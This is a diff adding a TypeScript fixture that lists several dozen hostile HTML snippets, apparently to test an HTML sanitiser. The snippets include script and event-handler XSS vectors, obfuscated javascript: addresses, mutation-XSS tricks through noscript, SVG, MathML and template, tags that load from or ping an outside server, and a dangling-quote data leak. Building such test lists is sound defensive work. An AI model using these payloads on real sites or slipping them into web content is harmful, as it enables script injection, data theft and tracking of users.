@@ -1,0 +1,86 @@
+/**
+ * Markup that tries to run, load or lead away, one idea each. `ran` is what a script of it does where
+ * it gets to run; `away` is an address of a server that counts who comes.
+ */
+export function hostileMarkup(
+  ran: string,
+  away: string,
+): readonly (readonly [name: string, markup: string])[] {
+  return [
+    ['script', `<script>${ran}</script>`],
+    ['script in capitals and a slash', `<SCRIPT/x>${ran}</SCRIPT >`],
+    ['script from a server', `<script src="${away}/s.js"></script>`],
+    ['module from a server', `<script type=module>import "${away}/m.js"</script>`],
+    ['error handler', `<img src=x onerror="${ran}">`],
+    ['handler behind a slash', `<img/src=x/onerror=${ran}>`],
+    ['handler behind a line break', `<img src=x\nonerror\n=\n"${ran}">`],
+    ['handler with NUL', `<img src=x one\u0000rror="${ran}">`],
+    ['load handler of SVG', `<svg onload="${ran}"></svg>`],
+    ['script in SVG', `<svg><script>${ran}</script></svg>`],
+    ['script in SVG by data', `<svg><script href="data:text/javascript,${ran}"/></svg>`],
+    [
+      'animated address',
+      `<svg><a><animate attributeName=href values="javascript:${ran}"/><text>go</text></a></svg>`,
+    ],
+    ['use of a remote picture', `<svg><use href="${away}/u.svg#a"/></svg>`],
+    ['toggle', `<details open ontoggle="${ran}"><summary>more</summary>text</details>`],
+    ['focus', `<input autofocus onfocus="${ran}">`],
+    ['marquee', `<marquee onstart="${ran}">text</marquee>`],
+    ['animation', `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${ran}">text</p>`],
+    ['body', `<body onload="${ran}" onpageshow="${ran}">`],
+    ['address of script', `<a href="javascript:${ran}">Read the whole report</a>`],
+    ['address with a tab', `<a href="java\tscript:${ran}">Read the whole report</a>`],
+    ['address in entities', `<a href="&#106;avascript&colon;${ran}">Read the whole report</a>`],
+    ['address with controls', `<a href="\u0001\u0019javascript:${ran}">Read the whole report</a>`],
+    ['address of data', `<a href="data:text/html,<script>${ran}</script>">Read the whole report</a>`],
+    ['address of a blob', `<a href="blob:${away}/0">Read the whole report</a>`],
+    ['address of a file', '<a href="file:///etc/hostname">Read the whole report</a>'],
+    ['address of another program', '<a href="vscode://open?x">Read the whole report</a>'],
+    ['ping', `<a href="${away}/a" ping="${away}/ping">Read the whole report</a>`],
+    ['form', `<form action="${away}/f"><button autofocus>Read on</button></form>`],
+    ['form by script', `<form><button formaction="javascript:${ran}">Read on</button></form>`],
+    ['frame', `<iframe src="${away}/i"></iframe>`],
+    ['frame with its own text', `<iframe srcdoc="&lt;script>parent.${ran}&lt;/script>"></iframe>`],
+    ['object', `<object data="${away}/o"></object><embed src="${away}/e">`],
+    ['base', `<base href="${away}/"><img src=b.png>`],
+    ['refresh', `<meta http-equiv=refresh content="0;url=${away}/r">`],
+    ['refresh to script', `<meta http-equiv=refresh content="0;url=javascript:${ran}">`],
+    [
+      'links ahead',
+      `<link rel=preconnect href="${away}"><link rel=prefetch href="${away}/p"><link rel=dns-prefetch href="${away}">`,
+    ],
+    ['style sheet', `<link rel=stylesheet href="${away}/s.css"><style>@import "${away}/i.css"</style>`],
+    ['style attribute', `<p style="background:url(${away}/b)">text</p>`],
+    ['pictures', `<picture><source srcset="${away}/1 2x"><img src="${away}/2" loading=lazy></picture>`],
+    [
+      'video',
+      `<video poster="${away}/v" src="${away}/w" autoplay></video><audio src="${away}/x" autoplay></audio>`,
+    ],
+    ['comment that ends early', `<!--><img src=x onerror="${ran}">-->`],
+    ['title that ends early', `<title></title><img src=x onerror="${ran}">`],
+    ['noscript', `<noscript><p title="</noscript><img src=x onerror=${ran}>"></noscript>`],
+    ['template', `<template><img src=x onerror="${ran}"></template>`],
+    [
+      'declarative shadow',
+      `<div><template shadowrootmode=open><img src=x onerror="${ran}"></template></div>`,
+    ],
+    [
+      'MathML and a style',
+      `<math><mtext><table><mglyph><style><img src=x onerror="${ran}"></style></mglyph></table></mtext></math>`,
+    ],
+    ['SVG and a style', `<svg></p><style><a id="</style><img src=x onerror=${ran}>">`],
+    [
+      'foreign object',
+      `<svg><foreignObject><p><svg><style><!--</style><img src=x onerror="${ran}">--></style></svg></p></foreignObject></svg>`,
+    ],
+    ['textarea', `<textarea></textarea><img src=x onerror="${ran}"></textarea>`],
+    ['plaintext and xmp', `<xmp></xmp><img src=x onerror="${ran}">`],
+    [
+      'names of the page’s own things',
+      '<form id=dateline><input name=call></form><img name=dl-app id=document>',
+    ],
+    ['element of ours', `<dl-app onclick="${ran}"></dl-app><dl-article></dl-article>`],
+    ['binding of a template', `<p @click=\${${ran}} .innerHTML=\${1}>\${${ran}} {{${ran}}}</p>`],
+    ['quotation that never ends', `<img src="${away}/leak?`],
+  ];
+}
